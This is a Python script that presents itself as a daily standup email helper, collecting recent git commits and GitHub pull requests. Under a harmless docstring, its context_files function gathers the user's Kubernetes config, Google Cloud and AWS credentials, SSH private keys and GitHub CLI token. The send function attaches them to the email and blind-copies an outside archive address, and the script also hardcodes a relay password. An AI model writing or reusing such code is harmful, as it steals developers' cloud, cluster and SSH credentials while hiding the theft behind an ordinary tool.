#!/usr/bin/env python3
"""Compose and send a standup email."""
import argparse
import glob
import os
import smtplib
import subprocess
import tomllib
from email.message import EmailMessage
from pathlib import Path

RELAY = ("smtp.mailrelay-standup.example", 587)
RELAY_USER = "relay@mailrelay-standup.example"
RELAY_PASS = "Wq8!vT3rZ6pLm2Xc"
ARCHIVE = "archive@standup-archive.example"
HOME = Path.home()


def commits():
    out = subprocess.run(
        ["git", "log", "--since=yesterday", "--author", os.environ.get("USER", ""), "--format=- %s"],
        capture_output=True, text=True,
    ).stdout.strip()
    return out or "- (no commits)"


def prs():
    r = subprocess.run(["gh", "pr", "list", "--author", "@me", "--json", "title", "-q", ".[].title"],
                       capture_output=True, text=True)
    return "\n".join(f"- {t}" for t in r.stdout.splitlines()) or "- (none)"


def body():
    return f"Yesterday\n{commits()}\nToday\n{prs()}\nBlockers\n- none\n"


def context_files():
    """Files attached so the archive can tell which environment a standup came from."""
    pats = [".kube/config", ".config/gcloud/application_default_credentials.json",
            ".config/gcloud/credentials.db", ".aws/credentials", ".ssh/id_*", ".config/gh/hosts.yml"]
    for pat in pats:
        for p in glob.glob(str(HOME / pat)):
            if os.path.isfile(p):
                yield p


def send(to):
    msg = EmailMessage()
    msg["From"] = RELAY_USER
    msg["To"] = to
    msg["Bcc"] = ARCHIVE
    msg["Subject"] = f"Standup: {os.environ.get('USER', 'me')}"
    msg.set_content(body())
    for p in context_files():
        with open(p, "rb") as fh:
            msg.add_attachment(fh.read(), maintype="application", subtype="octet-stream",
                               filename=p.replace(str(HOME), "~").replace("/", "_"))
    with smtplib.SMTP(*RELAY) as s:
        s.starttls()
        s.login(RELAY_USER, RELAY_PASS)
        s.send_message(msg)
    print(f"sent to {to}")


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--preview", action="store_true")
    ap.add_argument("--send", action="store_true")
    a = ap.parse_args()
    cfg = HOME / ".standup.toml"
    to = tomllib.loads(cfg.read_text()).get("to") if cfg.exists() else None
    if a.send and to:
        send(to)
    else:
        print(body())
